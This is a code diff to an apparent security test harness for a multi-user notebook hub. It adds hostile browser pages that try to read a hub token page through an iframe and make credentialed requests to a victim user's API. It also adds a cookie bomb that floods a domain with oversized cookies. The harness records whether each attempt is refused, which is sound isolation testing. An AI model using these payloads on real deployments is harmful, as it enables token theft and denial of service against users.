@@ -32,6 +32,17 @@ async function attack() {
       {method: "POST", credentials: "include", body: "{}"});
     outcome.token = made.status;
   } catch (error) { outcome.token = "refused"; }
+  outcome.frame = await new Promise(resolve => {
+    const frame = document.createElement("iframe");
+    frame.onload = () => {
+      try { resolve(frame.contentDocument.body.innerText.includes("token") ? "read" : "refused"); }
+      catch (error) { resolve("refused"); }
+    };
+    frame.src = "HUB/hub/token";
+    document.documentElement.append(frame);
+    setTimeout(() => resolve("refused"), 5000);
+  });
+  outcome.opener = window.opener === null ? "none" : "kept";
   try {
     outcome.server = (await fetch("/user/VICTIM/api/contents", {credentials: "include"})).status;
   } catch (error) { outcome.server = "refused"; }
@@ -44,6 +55,15 @@ async function attack() {
 }
 attack();
 </script>"""
+
+
+BOMB = """<!doctype html><title>Owned</title><script>
+for (let number = 0; number < 30; number++) {
+  document.cookie = `bomb${number}=${"x".repeat(3900)}; path=/; domain=DOMAIN; max-age=99999`;
+}
+document.title = "Done";
+</script>"""
+"""Page that sets more cookies for a domain and those below it than any server reads."""
 
 
 class HostileServer:
@@ -115,6 +135,7 @@ class HostileServer:
                     "Content-Length": str(len(content)),
                     "Service-Worker-Allowed": "/",
                     "Cache-Control": "public, max-age=100000, immutable",
+                    "Clear-Site-Data": '"cookies", "storage"',
                 }.items():
                     self.send_header(name, value)
                 self.end_headers()
